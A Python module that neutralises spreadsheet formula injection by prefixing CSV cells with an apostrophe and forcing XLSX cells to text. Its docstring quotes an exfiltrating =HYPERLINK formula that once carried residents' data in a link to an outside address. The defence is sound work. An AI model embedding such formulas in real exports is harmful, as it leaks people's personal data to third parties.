"""Residents' words in a spreadsheet stay words. A text cell that begins with = + - @ (or a tab
or a carriage return) is a formula to Excel and WPS: an outside trial wrote
=HYPERLINK("http://…?"&B3&C3, "…") as a report, and the centre's export carried it live, the next
rows' data in its link. CSV cells get a leading apostrophe (OWASP's advice); XLSX cells are
written as text."""
from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def starts_a_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_value(value: Any) -> Any:
    return "'" + value if starts_a_formula(value) else value


def as_text(cell: Any) -> Any:
    """An openpyxl cell holding a string that would be a formula, kept a string."""
    if starts_a_formula(cell.value):
        cell.data_type = "s"
    return cell
